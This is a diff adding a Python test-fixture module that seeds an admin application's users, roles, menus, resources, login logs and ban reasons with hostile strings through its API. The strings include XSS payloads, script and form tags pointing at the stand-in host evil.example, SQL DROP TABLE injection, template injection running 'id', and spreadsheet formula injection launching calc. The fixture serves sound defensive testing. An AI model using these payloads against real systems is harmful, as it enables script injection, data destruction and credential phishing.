@@ -1,0 +1,127 @@
+"""Texts that try to run, to break the layout or to fool the reader, and a house whose records hold them."""
+
+from __future__ import annotations
+
+import itertools
+from typing import Any, Final
+
+import httpx
+
+TEXTS: Final = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "</script><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "<script src=https://evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)>'\"><script>alert(2)</script>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href=javascript:alert(1)>here</a>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<form action=https://evil.example><button>Sign in</button></form>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<!--<img src=--><img src=x onerror=alert(1)>-->",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "//evil.example/x",
+    "' onmouseover='alert(1)",
+    '" onfocus="alert(1)" autofocus="',
+    "`${alert(1)}`",
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "<%= system('id') %>",
+    "#{7*7}",
+    "');alert(1);//",
+    "Robert'); DROP TABLE sys.role;--",
+    '=HYPERLINK("https://evil.example","here")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\u202etxt.exe\u202c",
+    "\u2066bidi\u2069\u200f",
+    "zero\u200bwidth\u200d\ufeff",
+    "Z\u0351\u036f\u0310" + "a\u0310\u0311\u0312" * 8,
+    "W" * 120,
+)
+"""Fifty texts."""
+FEW: Final = 10
+"""How many records of a kind hold them, unless each is to be in every field."""
+
+_BODIES: Final[dict[str, dict[str, Any]]] = {
+    "user": {
+        "userName": "",
+        "nickName": "",
+        "email": "",
+        "phone": "",
+        "avatar": "",
+        "password": "four wary herons",
+    },
+    "role": {"roleName": "", "roleCode": "hostile-{n}", "description": ""},
+    "menu": {"menuType": "Menu"}
+    | dict.fromkeys(("title", "name", "path", "component", "icon", "redirect", "link", "badge"), ""),
+    "resource": {"method": "GET", "path": "/hostile/{n}", "resourceCode": "hostile.{n}"}
+    | dict.fromkeys(("resourceName", "description"), ""),
+    "service": {"name": "hostile-{n}", "description": ""},
+}
+"""How a record of each kind is made: a text goes to each empty field."""
+_NEEDED: Final = {"userName": "hostile-{n}", "nickName": "Hostile {n}", "roleName": "Hostile {n}"} | {
+    "title": "Hostile {n}",
+    "resourceName": "Hostile {n}",
+}
+"""What fields that may not be empty hold where a text is refused."""
+
+
+def store(client: httpx.Client, *, everywhere: bool) -> dict[str, list[int]]:
+    """Store each text in some field of some record, or in each field that takes it; return the ids, by kind.
+
+    The logs have them as well: as names, devices and browsers of sign-ins that failed. Some users are banned
+    for such reasons.
+    """
+    ids: dict[str, list[int]] = {kind: [] for kind in _BODIES}
+    for number in range(len(TEXTS) if everywhere else FEW):
+        for shift, (kind, form) in enumerate(_BODIES.items()):
+            step = 0 if everywhere else FEW
+            texts = (TEXTS[(number + step * place) % len(TEXTS)] for place in itertools.count(shift))
+            body = {name: value.format(n=number) if value else next(texts) for name, value in form.items()}
+            ids[kind].append(_store(client, kind, body, number))
+        _fail_to_sign_in(client, TEXTS[number])
+    for user, text in zip(ids["user"][:5], TEXTS[5:10], strict=True):
+        client.post(f"/api/online/{user}/ban", json={"reason": text}).raise_for_status()
+    return ids
+
+
+def _store(client: httpx.Client, kind: str, body: dict[str, Any], number: int) -> int:
+    for _ in range(3):
+        answer = client.post(f"/api/{kind}", json=body)
+        if answer.status_code == 201:
+            record: int = answer.json()["data"]["id"]
+            return record
+        refused = answer.json()
+        for fault in refused.get("errors", [refused]):  # the other fields are stored
+            name = fault["field"].lstrip("/").split("/")[0].split(".")[0]
+            body.pop(name, None)
+            if name in _NEEDED:
+                body[name] = _NEEDED[name].format(n=number)
+    raise AssertionError(f"{kind} {number}: {answer.text}")
+
+
+def _fail_to_sign_in(client: httpx.Client, text: str) -> None:
+    sent = {"userName": text[:64], "password": "not the password", "device": text[:32]}
+    headers = {"User-Agent": text} if text.isascii() and text.isprintable() else {}
+    client.post("/api/auth/login", json=sent, headers=headers)
